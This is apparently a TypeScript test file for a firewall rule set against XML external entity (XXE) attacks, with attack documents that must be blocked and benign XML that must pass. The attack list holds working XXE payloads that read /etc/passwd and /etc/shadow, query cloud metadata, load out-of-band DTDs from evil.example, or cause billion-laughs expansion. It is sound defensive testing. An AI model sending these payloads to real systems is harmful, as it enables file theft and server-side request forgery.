import test from "ava";
import { checkRules, client, filePart, multipartBody, multipartType, placeCases, ruleFile, testBlocks, testPasses, type WafInput } from "./support.js";

const file = ruleFile("139-xxe.yaml");
const { get, post } = client("api.example.com", "/api/import");

type Place = "xml" | "soap" | "text" | "form" | "json" | "svg-upload" | "query";

function request(place: Place, doc: string): WafInput {
  switch (place) {
    case "xml":
      return post("application/xml", doc);
    case "soap":
      return post("text/xml; charset=utf-8", doc, [], "/ws/orders");
    case "text":
      return post("text/plain", doc);
    case "form":
      return post("application/x-www-form-urlencoded", `data=${encodeURIComponent(doc)}`);
    case "json":
      return post("application/json", JSON.stringify({ payload: doc }));
    case "query":
      return get(`/api/render?doc=${encodeURIComponent(doc)}`);
    case "svg-upload": {
      const b = "----formb0undary";
      return post(multipartType(b), multipartBody(b, [filePart("avatar", "me.svg", "image/svg+xml", doc)]), [], "/profile/avatar");
    }
  }
}

const ROOT = "<root><name>&xxe;</name></root>";
/** Test titles show the start of a document. */
const label = (doc: string): string => JSON.stringify(doc.slice(0, 70));

// [place, document, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  ["xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY xxe SYSTEM 'http://169.254.169.254/latest/meta-data/'>]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY xxe PUBLIC "-//A//B" "http://evil.example/x.dtd">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd"> %dtd;]><root/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY%p SYSTEM "http://evil.example/a">%p;]><root/>`, 1],
  ["xml", `<!doctype r [<!entity   xxe   system   "expect://id">]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r [\n  <!ENTITY\n    xxe\n    SYSTEM\n    "php://filter/convert.base64-encode/resource=index.php">\n]>${ROOT}`, 1],
  ["xml", `<!DOCTYPE r SYSTEM "http://evil.example/external.dtd"><root/>`, 1],
  ["xml", `<!DOCTYPE html PUBLIC "-//EVIL//DTD" "http://evil.example/e.dtd"><root/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><root>&c;</root>`, 1],
  ["xml", `<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></root>`, 1],
  ["soap", `<?xml version="1.0"?><!DOCTYPE soap [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&xxe;</soap:Body></soap:Envelope>`, 1],
  ["text", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>${ROOT}`, 1],
  ["form", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hosts">]>${ROOT}`, 1],
  ["json", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "jar:http://evil.example/a.zip!/b">]>${ROOT}`, 1],
  ["query", `<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>${ROOT}`, 1],
  ["svg-upload", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>`, 1],
  ["svg-upload", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></svg>`, 1],
  ["form", `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`, 1],
  ["xml", `<!DOCTYPE r [<!ENTITY x "inner">]><root>&x;</root>`, 2],
  ["xml", `<!DOCTYPE root><root/>`, 2],
  ["xml", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><root/>`, 2],
  ["form", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>`, 2],
];

testBlocks(file, placeCases(ATTACKS, request, label));

// Ordinary XML and text that must pass at PL1 (and PL2 when marked true).
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["xml", `<?xml version="1.0" encoding="UTF-8"?><order id="7"><item sku="A-1" qty="2"/><note>Ring twice &amp; wait</note></order>`, true],
  ["soap", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>`, true],
  ["xml", `<feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><link href="https://example.com/"/></feed>`, true],
  ["xml", `<root><![CDATA[ if (a < b && c > d) { return "<!-- not a comment -->"; } ]]></root>`, true],
  ["xml", `<root><!-- an ENTITY is mentioned in a comment --><v>SYSTEM PUBLIC</v></root>`, true],
  ["xml", `<?xml version="1.0"?><!DOCTYPE note><note><to>Tove</to></note>`, false],
  ["xml", `<config><include file="base.xml"/><entity name="user" system="crm"/></config>`, true],
  ["svg-upload", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>`, true],
  ["text", `The <!ENTITY> declaration defines entities; see the XML 1.0 spec, section 4.2.`, false],
  ["text", `Plain text notes: the system is public-facing and uses file storage.`, true],
  ["form", `<p>Hello <b>world</b></p>`, true],
  ["form", `Use SYSTEM and PUBLIC identifiers carefully.`, true],
  ["json", `<html><body><h1>Title</h1></body></html>`, true],
  ["json", `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>`, true],
  ["query", `<b>bold</b> & <i>italic</i>`, true],
  ["xml", `<doc xmlns:xlink="http://www.w3.org/1999/xlink"><ref xlink:href="https://example.com/a"/></doc>`, true],
  ["xml", `<root><script>var x = "&lt;!ENTITY&gt;";</script></root>`, true],
  ["form", `DOCTYPE html is the first line of every page`, true],
  ["xml", `<?xml version="1.0"?><invoice><line amount="10.00" currency="EUR">Widget &#169; 2024</line></invoice>`, true],
  ["xml", `<project><dependency><groupId>org.example</groupId><artifactId>include-utils</artifactId></dependency></project>`, true],
];

testPasses(file, placeCases(BENIGN, request, label));

test("every rule is in the file's id range and tagged", (t) => {
  t.true(file.rules.length >= 4);
  checkRules(t, file, ["attack-xxe", "owasp-a05"]);
});
